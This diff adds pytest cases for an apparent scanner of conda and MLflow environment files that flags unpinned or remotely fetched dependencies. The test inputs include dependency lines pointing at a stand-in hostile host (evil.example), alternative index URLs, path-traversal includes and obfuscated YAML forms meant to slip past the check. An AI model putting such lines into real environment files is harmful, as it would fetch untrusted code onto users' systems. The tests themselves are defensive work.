@@ -69,8 +69,67 @@ def test_requirements_that_may_be_other_packages_tomorrow_are_a_warning() -> Non
 
 def test_the_environments_of_mlflow_are_looked_at_like_requirements() -> None:
     conda = "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24\n- pip:\n  - mlflow==2.9.2\n"
-    assert ("unpinned-requirement", "warning") in found("conda.yaml", conda)
+    assert found("conda.yaml", conda) == [("unpinned-requirement", "warning")]
+    assert found("conda.yaml", conda.replace("<=", "==").replace("python=3.11.7", "numpy")) == [
+        ("unpinned-requirement", "warning")
+    ]
+    assert found("conda.yaml", conda.replace("<=", "==")) == []
     assert found("conda.yaml", conda + "  - git+https://evil.example/x\n")[0] == FETCHED[0]
+    assert found("conda.yaml", conda.replace("conda-forge", "https://evil.example/conda"))[0] == FETCHED[0]
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "dependencies: [numpy, {pip: [git+https://evil.example/x]}]",
+        "dependencies:\n- pip:\n  - [git+https://evil.example/x]",
+        'dependencies:\n- pip:\n  - "\\x67it+https://evil.example/x"',
+        "dependencies:\n- pip:\n  - >\n   git+https://evil.example/x",
+        "dependencies:\n- pip:\n  - x\n    @ https://evil.example/x",
+        "a: &a\n- x\ndependencies: *a",
+        "? dependencies\n: - git+https://evil.example/x",
+        '"dependencies":\n- numpy=1',
+    ],
+)
+def test_an_environment_that_is_written_otherwise_than_in_plain_lists_is_refused(lines: str) -> None:
+    assert found("conda.yaml", lines)[0] == ("unreadable-settings", "error")
+    assert found("python_env.yml", lines)[0] == ("unreadable-settings", "error")
+
+
+def test_an_environment_may_have_comments_quotes_and_markers() -> None:
+    lines = """---
+    # made by a tool
+    name: of-model  # its name
+    channels:
+      - conda-forge
+      - "defaults"
+    dependencies:
+      -
+        pip:
+          - 'numpy==1.26.4; python_version < "3.13"'
+          - pandas==2.3.3; python_version < "3.13"
+          - "scipy==1.17.1"
+    prefix: /opt/conda/envs/of-model
+    """
+    assert found("environment.yml", lines) == []
+    assert found("environment.yml", lines.replace("scipy==1.17.1", "./scipy.whl")) == FETCHED
+    assert found("environment.yml", lines.replace("pandas==2.3.3;", "git+https://evil.example/x#egg=y;")) == FETCHED
+
+
+@pytest.mark.parametrize("option", ["-r", "-c", "--requirement", "--constraint", "--requirement="])
+def test_what_lies_beside_it_and_is_looked_at_as_well_may_be_named(option: str) -> None:
+    for beside in ("requirements.txt", "requirements-gpu.txt", "constraints.txt", "my-requirements.txt"):
+        assert found("python_env.yaml", f"dependencies:\n- {option} {beside}\n") == []
+        assert found("requirements.txt", f"{option} {beside}\n") == []
+    for elsewhere in (
+        "../requirements.txt",
+        "/opt/requirements.txt",
+        "more.txt",
+        "requirements.txt.bak",
+        "._a-requirements.txt",
+    ):
+        assert found("requirements.txt", f"{option} {elsewhere}\n") == FETCHED
+    assert found("requirements.txt", f"{option} requirements.txt --index-url https://evil.example\n") == FETCHED
 
 
 @pytest.mark.parametrize(
